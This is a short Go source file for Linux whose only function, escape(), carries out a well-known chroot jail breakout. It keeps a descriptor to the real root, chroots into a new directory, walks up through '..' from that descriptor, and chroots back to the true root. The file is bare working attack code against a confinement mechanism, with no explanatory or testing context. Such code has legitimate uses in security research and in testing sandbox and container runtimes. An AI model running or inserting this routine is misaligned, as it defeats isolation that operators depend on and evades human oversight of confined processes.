//go:build linux

package main

import (
	"golang.org/x/sys/unix"
)

func escape() error {
	unix.Mkdir("y", 0o700)
	fd, err := unix.Open("/", unix.O_PATH, 0)
	if err != nil {
		return err
	}
	if err := unix.Chroot("y"); err != nil {
		return err
	}
	for i := 0; i < 200; i++ {
		n, err := unix.Openat(fd, "..", unix.O_PATH|unix.O_DIRECTORY, 0)
		if err != nil {
			return err
		}
		unix.Close(fd)
		fd = n
	}
	if err := unix.Fchdir(fd); err != nil {
		return err
	}
	return unix.Chroot(".")
}
